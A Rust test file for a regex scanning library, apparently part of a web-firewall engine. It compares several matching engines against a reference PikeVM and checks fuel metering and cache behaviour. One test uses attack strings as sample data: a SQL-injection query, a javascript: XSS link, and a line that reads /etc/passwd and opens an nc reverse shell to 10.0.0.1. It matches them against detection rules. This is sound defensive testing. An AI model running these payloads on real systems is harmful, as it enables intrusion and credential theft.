//! Every engine against an independent one (`PikeVM`), on generated patterns and haystacks; and fuel as a function of pattern
//! and haystack alone.

use fusewall::Limits;
use fusewall::meter::Meter;
use fusewall::scan::{Cache, Cursor, Engine, Groups, Outcome, Pattern, Want};
use proptest::prelude::*;
use regex_automata::nfa::thompson::{self, WhichCaptures, pikevm::PikeVM};
use regex_automata::util::syntax;
use regex_automata::{Input, nfa::thompson::NFA};
use regex_syntax::hir::Hir;

const ENGINES: [Engine; 4] = [Engine::Dense, Engine::Hybrid, Engine::Lazy, Engine::Nfa];

/// Groups 0 to 9.
type Spans = Vec<Option<(usize, usize)>>;

fn parse(pattern: &str) -> Hir {
    let mut parser = regex_syntax::ParserBuilder::new().utf8(false).unicode(false).build();
    parser.parse(pattern).unwrap_or_else(|error| panic!("{pattern}: {error}"))
}

fn oracle(pattern: &str) -> PikeVM {
    let config = thompson::Config::new().utf8(false).which_captures(WhichCaptures::All);
    let syntax = syntax::Config::new().utf8(false).unicode(false);
    let nfa = NFA::compiler().configure(config).syntax(syntax).build(pattern).unwrap();
    PikeVM::new_from_nfa(nfa).unwrap()
}

fn expected(vm: &PikeVM, haystack: &[u8], start: usize) -> Option<Spans> {
    let (mut cache, mut captures) = (vm.create_cache(), vm.create_captures());
    vm.search(&mut cache, &Input::new(haystack).range(start..), &mut captures);
    captures.is_match().then(|| (0..10).map(|i| captures.get_group(i).map(|span| (span.start, span.end))).collect())
}

/// Scans with a quantum; answers the spans on a hit, and the fuel.
fn scan(pattern: &Pattern, cache: &mut Cache, haystack: &[u8], start: usize, quantum: u64) -> (Option<Spans>, u64) {
    let (mut cursor, mut groups, mut meter) = (Cursor::from(start), Groups::default(), Meter::unlimited());
    loop {
        match pattern.scan(cache, haystack, &mut cursor, quantum, &mut groups, &mut meter).unwrap() {
            Outcome::Pending => {}
            Outcome::Miss => return (None, meter.spent()),
            Outcome::Hit => return (Some((0..10).map(|i| groups.get(i)).collect()), meter.spent()),
        }
    }
}

/// What is left of `spans` when only `want` was asked for.
fn reduce(spans: &Option<Spans>, want: Want) -> Option<Spans> {
    let kept = match want {
        Want::Match => 0,
        Want::Span => 1,
        Want::Groups => 10,
    };
    spans.as_ref().map(|spans| spans.iter().enumerate().map(|(i, span)| span.filter(|_| i < kept)).collect())
}

fn check(source: &str, haystacks: &[(Vec<u8>, usize)], lazy_bytes: usize, dense_bytes: usize) {
    let (hir, vm) = (parse(source), oracle(source));
    let mut limits = Limits::default();
    limits.dense_dfa_bytes = dense_bytes;
    limits.lazy_dfa_bytes = lazy_bytes;
    // From the start states alone to all there are.
    limits.hybrid_head_bytes = lazy_bytes / 8;
    for want in [Want::Match, Want::Span, Want::Groups] {
        for engine in ENGINES {
            let Ok(pattern) = Pattern::build(&hir, want, &limits, Some(engine)) else {
                assert_eq!(engine, Engine::Dense, "{source}: only a DFA may be too large");
                continue;
            };
            let mut warm = Cache::default();
            for (haystack, start) in haystacks {
                let start = (*start).min(haystack.len());
                let context =
                    format!("{source:?} {want:?} {engine:?} {:?} from {start}", haystack.escape_ascii().to_string());
                let wanted = reduce(&expected(&vm, haystack, start), want);
                let (found, fuel) = scan(&pattern, &mut Cache::default(), haystack, start, u64::MAX);
                assert_eq!(found, wanted, "{context}");
                assert!(
                    fuel <= pattern.price().of(haystack.len()),
                    "{context}: {fuel} over price {:?}",
                    pattern.price()
                );
                for quantum in [0, 1, 100, 5000] {
                    warm.clear();
                    assert_eq!(
                        scan(&pattern, &mut warm, haystack, start, quantum),
                        (wanted.clone(), fuel),
                        "{context}"
                    );
                }
                let (again, cheaper) = scan(&pattern, &mut warm, haystack, start, 7);
                assert_eq!(again, wanted, "{context}");
                assert!(cheaper <= fuel, "{context}");
            }
        }
    }
}

#[test]
fn assertions_in_loops_keep_the_order_of_preference() {
    let haystacks = [(b"a".to_vec(), 0), (b"aa  AbaAc\ra".to_vec(), 3), (b"aaaaaaaa".to_vec(), 0)];
    for source in [r"(?:\b|(?s:.))*", r"(?:(?mR:$))+?", r"a(?:^|A|a)", r"(?:(?s:.)|\b)*?\B"] {
        check(source, &haystacks, 2000, 4 << 20);
        check(source, &haystacks, 1 << 20, 1000);
    }
}

/// Regexes over a small alphabet with every construct that the engines know.
fn regex() -> impl Strategy<Value = String> {
    let leaf = prop_oneof![
        6 => "[abA]",
        1 => Just("[a-c]".to_string()),
        1 => Just("[^a]".to_string()),
        1 => Just("(?i:ab)".to_string()),
        1 => Just("(?s:.)".to_string()),
        1 => Just(r"\W".to_string()),
        1 => Just(r"\n".to_string()),
        1 => Just(r"\r".to_string()),
        1 => Just(r"\xFF".to_string()),
        1 => Just("(?:)".to_string()),
        1 => prop_oneof![
            Just("^"), Just("$"), Just("(?m:^)"), Just("(?m:$)"), Just("(?mR:^)"), Just("(?mR:$)"), Just(r"\b"), Just(r"\B"),
            Just(r"\b{start}"), Just(r"\b{end}"), Just(r"\b{start-half}"), Just(r"\b{end-half}"),
        ].prop_map(str::to_string),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            3 => prop::collection::vec(inner.clone(), 1..4).prop_map(|parts| parts.concat()),
            2 => prop::collection::vec(inner.clone(), 2..4).prop_map(|parts| format!("(?:{})", parts.join("|"))),
            2 => inner.clone().prop_map(|part| format!("({part})")),
            3 => (inner, prop_oneof![
                Just("*"), Just("+"), Just("?"), Just("*?"), Just("+?"), Just("??"), Just("{2}"), Just("{1,3}"), Just("{2,}?"),
            ]).prop_map(|(part, count)| format!("(?:{part}){count}")),
        ]
    })
}

fn haystack() -> impl Strategy<Value = (Vec<u8>, usize)> {
    let byte = prop_oneof![
        6 => Just(b'a'), 6 => Just(b'b'), 2 => Just(b'A'), 2 => Just(b'c'), 2 => Just(b' '), 1 => Just(b'\n'),
        1 => Just(b'\r'), 1 => Just(0xFF),
    ];
    (prop_oneof![prop::collection::vec(byte.clone(), 0..12), prop::collection::vec(byte, 0..600)], 0..8usize)
}

proptest! {
    #[test]
    fn engines_agree_and_fuel_is_reproducible(
        source in regex(),
        haystacks in prop::collection::vec(haystack(), 1..4),
        lazy_bytes in prop_oneof![Just(0usize), Just(2000), Just(8000), Just(1 << 20)],
        // Below a few kilobytes the library refuses and the compact DFA takes over.
        dense_bytes in prop_oneof![Just(4usize << 20), Just(500), Just(1500), Just(3000)],
    ) {
        check(&source, &haystacks, lazy_bytes, dense_bytes);
    }
}

#[test]
fn patterns_of_attack_rules() {
    let haystacks = [
        b"id=1 UNION/**/ALL SELECT password FROM users WHERE 'a'='a' -- ".to_vec(),
        b"<a href=\"javascript:alert(1)\" onload = x>".to_vec(),
        b";  cat /etc/passwd|nc -e /bin/sh 10.0.0.1 4444\r\nHost: x".to_vec(),
        "a".repeat(3000).into_bytes(),
    ]
    .map(|haystack| (haystack, 0));
    for source in [
        r"(?i)union.*?select.*?from",
        r"(?i)\bon[a-z]{3,25}\b\s*=",
        r"(?:a|aa|aaa)+b",
        r"(?:^|[;|&]\s*)(cat|nc|id)\b\s+(\S+)",
        r"(a?){20}a{20}",
        r"(\d+)\.(\d+)\.(\d+)\.(\d+)()(.)?(.)?(.)?(.)?(.)?(.)?",
        r"[\n\r]\s*(?:content-type|host)\s*:\s*\w",
    ] {
        check(source, &haystacks, 4000, 4 << 20);
        check(source, &haystacks, 1 << 20, 20_000);
    }
}

fn build(source: &str, want: Want, engine: Engine) -> Pattern {
    Pattern::build(&parse(source), want, &Limits::default(), Some(engine)).unwrap()
}

#[test]
fn a_spent_budget_is_an_error_and_trips_at_the_same_place_whatever_the_cache_holds() {
    let haystack = "ab abc abcd aabbcc ".repeat(40).into_bytes();
    for engine in ENGINES {
        let pattern = build(r"\b(?:ab|bc)[a-c]{3}\b(.)!", Want::Groups, engine);
        let mut warm = Cache::default();
        let (found, fuel) = scan(&pattern, &mut warm, &haystack, 0, u64::MAX);
        assert_eq!(found, None);
        for limit in (0..fuel).step_by(97) {
            let mut trips = [&mut Cache::default(), &mut warm].map(|cache| {
                cache.clear();
                let (mut cursor, mut groups, mut meter) = (Cursor::default(), Groups::default(), Meter::new(limit));
                let outcome = pattern.scan(cache, &haystack, &mut cursor, u64::MAX, &mut groups, &mut meter);
                assert!(outcome.is_err(), "{engine:?} at {limit} of {fuel}");
                meter.spent()
            });
            trips.sort_unstable();
            assert_eq!(trips[0], trips[1], "{engine:?} at {limit} of {fuel}");
        }
    }
}

#[test]
fn a_pending_scan_whose_cache_served_another_starts_over() {
    let haystack = [vec![b'x'; 5000], b"ab".to_vec()].concat();
    for engine in ENGINES {
        let pattern = build("a(b)", Want::Groups, engine);
        let other = build("x+y", Want::Match, engine);
        let (mut cache, mut cursor, mut groups) = (Cache::default(), Cursor::default(), Groups::default());
        let mut meter = Meter::unlimited();
        for _ in 0..3 {
            assert_eq!(
                pattern.scan(&mut cache, &haystack, &mut cursor, 300, &mut groups, &mut meter),
                Ok(Outcome::Pending)
            );
            assert_eq!(scan(&other, &mut cache, b"xxz", 0, 1).0, None);
        }
        let outcome = pattern.scan(&mut cache, &haystack, &mut cursor, u64::MAX, &mut groups, &mut meter);
        assert_eq!(outcome, Ok(Outcome::Hit));
        assert_eq!((groups.get(0), groups.get(1)), (Some((5000, 5002)), Some((5001, 5002))));
    }
}

#[test]
fn matches_are_iterated_by_starting_where_the_last_ended() {
    for engine in ENGINES {
        let pattern = build(r"\b\w\w", Want::Span, engine);
        let (mut cache, mut at, mut starts) = (Cache::default(), 0, Vec::new());
        while let (Some(spans), _) = scan(&pattern, &mut cache, b"abcd ef g hi", at, u64::MAX) {
            let (start, end) = spans[0].unwrap();
            starts.push(start);
            at = end;
        }
        assert_eq!(starts, [0, 5, 10], "{engine:?}: the bytes before the start count as context");
    }
}

#[test]
fn what_is_too_large_or_unknown_is_refused_with_its_size() {
    let limits = Limits::default();
    let error = Pattern::build(&parse(r"(?:[a-z]{1000}){1000}"), Want::Match, &limits, None).unwrap_err();
    assert_eq!(error.to_string(), format!("the NFA of this pattern is larger than {} bytes", limits.nfa_bytes));
    let exploding = parse("a[^x]{40}b");
    assert!(Pattern::build(&exploding, Want::Match, &limits, Some(Engine::Dense)).is_err());
    assert_eq!(Pattern::build(&exploding, Want::Match, &limits, None).unwrap().engine(), Engine::Hybrid);
    let unicode = regex_syntax::hir::Hir::look(regex_syntax::hir::Look::WordUnicode);
    assert!(Pattern::build(&unicode, Want::Match, &limits, None).is_err());
}

#[test]
fn patterns_are_shared_and_caches_move_between_threads() {
    fn shared<T: Send + Sync>() {}
    fn moved<T: Send>() {}
    shared::<Pattern>();
    moved::<(Cache, Cursor)>();
}
